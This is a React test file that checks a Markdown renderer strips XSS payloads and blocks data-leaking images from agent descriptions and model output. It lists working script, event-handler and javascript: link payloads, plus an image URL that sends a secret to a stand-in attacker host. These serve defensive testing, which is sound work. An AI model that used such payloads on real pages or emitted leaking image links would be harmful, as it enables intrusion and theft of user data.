import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import MarkdownView from './MarkdownView';

/** Everything an attacker might put in an agent's description. */
const PAYLOADS = [
  '<script>window.__pwned = "script"</script>',
  '<img src="https://attacker.example/pixel.png" onerror="window.__pwned = \'img\'">',
  '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<a href="javascript:window.__pwned=1" onclick="window.__pwned=2">raw link</a>',
  '[click me](javascript:window.__pwned=3)',
  '[also me](JaVaScRiPt:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '[relative](/account/api-keys)',
  '![tracker](https://attacker.example/tracker.png "title")',
  '![inline](data:image/png;base64,AAAA)',
  '<details open ontoggle="window.__pwned=4">x</details>',
  '<style>body{display:none}</style>',
  '**bold** and `code` and [a fine link](https://example.com/docs) and [mail](mailto:ada@example.com)',
].join('\n\n');

function renderPayloads() {
  const { container } = render(<MarkdownView source={PAYLOADS} />);
  return container;
}

describe('Markdown', () => {
  it('renders no element that can run script or load something', () => {
    const container = renderPayloads();
    for (const tag of ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'style', 'details', 'form', 'input']) {
      expect(container.querySelectorAll(tag), `<${tag}>`).toHaveLength(0);
    }
    expect((window as unknown as { __pwned?: unknown }).__pwned).toBeUndefined();
  });

  it('leaves no event handler attribute on any element', () => {
    const container = renderPayloads();
    const handlers = [...container.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes].filter((attribute) => attribute.name.toLowerCase().startsWith('on')).map((a) => a.name),
    );
    expect(handlers).toEqual([]);
    expect(container.innerHTML).not.toMatch(/onerror|onload|onclick|ontoggle/i);
  });

  it('makes only http(s) and mailto links clickable, opened safely in a new tab', () => {
    const container = renderPayloads();
    const links = [...container.querySelectorAll('a')].map((a) => ({
      text: a.textContent,
      href: a.getAttribute('href'),
      rel: a.getAttribute('rel'),
      target: a.getAttribute('target'),
    }));
    const safe = { rel: 'noopener noreferrer nofollow', target: '_blank' };
    expect(links).toEqual([
      { text: 'Image: tracker', href: 'https://attacker.example/tracker.png', ...safe },
      { text: 'a fine link', href: 'https://example.com/docs', ...safe },
      { text: 'mail', href: 'mailto:ada@example.com', ...safe },
    ]);
    // The rest keep their text, but are not links.
    for (const text of ['click me', 'also me', 'data', 'vb', 'relative']) {
      const element = screen.getByText(text);
      expect(element.tagName).toBe('SPAN');
      expect(element).not.toHaveAttribute('href');
      expect(element.closest('a')).toBeNull();
    }
    expect(container.innerHTML).not.toMatch(/javascript:|vbscript:|data:text/i);
  });

  it('never loads an image: a web image becomes a link to it, anything else its description', () => {
    const container = renderPayloads();
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'Image: tracker' })).toHaveAttribute('href', 'https://attacker.example/tracker.png');
    expect(screen.getByText('[inline]')).toBeInTheDocument();
  });

  it('still renders ordinary Markdown, with headings below the page’s own', () => {
    const { container } = render(
      <MarkdownView source={'# Title\n\n## Part\n\nSome **bold**, *em* and `code`.\n\n- one\n- two\n\n> quoted\n\n```\nblock\n```'} />,
    );
    expect(container.querySelector('h1, h2')).toBeNull();
    expect(screen.getByRole('heading', { level: 3, name: 'Title' })).toBeInTheDocument();
    expect(screen.getByRole('heading', { level: 4, name: 'Part' })).toBeInTheDocument();
    expect(container.querySelector('strong')).toHaveTextContent('bold');
    expect(container.querySelector('em')).toHaveTextContent('em');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('blockquote')).toHaveTextContent('quoted');
    expect(container.querySelector('pre code')).toHaveTextContent('block');
  });

  it('loads the renderer on demand, with the same result', async () => {
    render(<Markdown source={'[x](javascript:alert(1)) <img src=x onerror=alert(1)> **ok**'} />);
    expect(await screen.findByText('ok')).toBeInTheDocument();
    const root = screen.getByTestId('markdown');
    expect(root.querySelector('img, a')).toBeNull();
    expect(root.innerHTML).not.toMatch(/onerror|javascript:/i);
  });
});

describe('Markdown of model output', () => {
  const OUTPUT = [
    'Here you go:',
    '<img src=x onerror=alert(1)>',
    '<script>alert(2)</script>',
    '[click me](javascript:alert(3))',
    '![leak](http://attacker.invalid/leak.png?secret=1)',
    '[docs](https://example.com/docs) and https://example.org/raw',
  ].join('\n\n');

  it('never loads or links an image: it shows its description and URL as text', () => {
    const { container } = render(<MarkdownView source={OUTPUT} variant="model-output" />);
    expect(container.querySelector('img, script, svg, iframe')).toBeNull();
    const image = screen.getByTestId('inert-image');
    expect(image).toHaveTextContent('[Image not loaded: leak] http://attacker.invalid/leak.png?secret=1');
    expect(image.closest('a')).toBeNull();
    expect(image.querySelector('a')).toBeNull();
    expect(container.innerHTML).not.toMatch(/onerror|javascript:/i);
  });

  it('keeps javascript: links as text, and shows where a web link leads', () => {
    const { container } = render(<MarkdownView source={OUTPUT} variant="model-output" />);
    expect(screen.getByText('click me').tagName).toBe('SPAN');
    expect(screen.getByText('click me').closest('a')).toBeNull();
    const links = [...container.querySelectorAll('a')].map((a) => ({ text: a.textContent, href: a.getAttribute('href'), rel: a.rel }));
    expect(links).toEqual([{ text: 'docs', href: 'https://example.com/docs', rel: 'noopener noreferrer nofollow' }]);
    expect(screen.getByText('(example.com)')).toHaveClass('markdown-link-host');
  });

  it('shows the plain text while the renderer loads', async () => {
    render(<Markdown source={'**bold** <img src=x onerror=alert(1)>'} variant="model-output" />);
    expect(await screen.findByText('bold', { selector: 'strong' }, { timeout: 5000 })).toBeInTheDocument();
    expect(document.querySelector('img')).toBeNull();
  });
});
